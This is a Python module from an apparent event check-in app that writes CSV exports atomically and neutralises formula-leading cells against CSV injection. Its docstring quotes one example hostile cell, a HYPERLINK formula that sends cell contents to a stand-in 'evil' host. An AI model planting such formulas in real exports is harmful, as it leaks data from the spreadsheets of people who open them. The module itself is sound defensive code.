"""Writing CSV files for spreadsheets: the one writer every export uses (Qt-free).

Guest names and form answers come from buyers, so a cell can hold a spreadsheet formula
(`=HYPERLINK("http://evil/?"&A1,"x")`). As OWASP recommends for CSV injection, a cell that
begins with `=`, `+`, `-`, `@`, a tab or a carriage return is written with a single quote
in front, so spreadsheet programs show it as text and never run it. Files are written
atomically: a half-written export never replaces a good one.
"""

from __future__ import annotations

import csv
import os
import tempfile
from collections.abc import Iterable, Sequence
from pathlib import Path

from checkin_app.services.errors import ServiceError

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> str:
    """The cell's text, made inert for spreadsheets when it could start a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def write_csv(path: Path, header: Sequence[str], rows: Iterable[Sequence[object]]) -> int:
    """Write `header` and `rows` to `path` (UTF-8 with a BOM, so spreadsheet programs read
    accents right); returns the number of rows. Raises `ServiceError` in plain words."""
    directory = path.parent if str(path.parent) else Path(".")
    if path.is_dir():
        raise ServiceError(f"Cannot write {path}: it is a folder.")
    if not directory.is_dir():
        raise ServiceError(f"Cannot write {path}: the folder {directory} does not exist.")
    try:
        fd, tmp_name = tempfile.mkstemp(prefix=".export-", suffix=".csv", dir=directory)
    except OSError as exc:
        raise ServiceError(f"Cannot write {path}: {exc.strerror or exc}.") from None
    count = 0
    try:
        with os.fdopen(fd, "w", newline="", encoding="utf-8-sig") as handle:
            writer = csv.writer(handle)
            writer.writerow([neutralise(h) for h in header])
            for row in rows:
                writer.writerow([neutralise(cell) for cell in row])
                count += 1
        os.replace(tmp_name, path)
    except OSError as exc:
        Path(tmp_name).unlink(missing_ok=True)
        raise ServiceError(f"Cannot write {path}: {exc.strerror or exc}.") from None
    return count
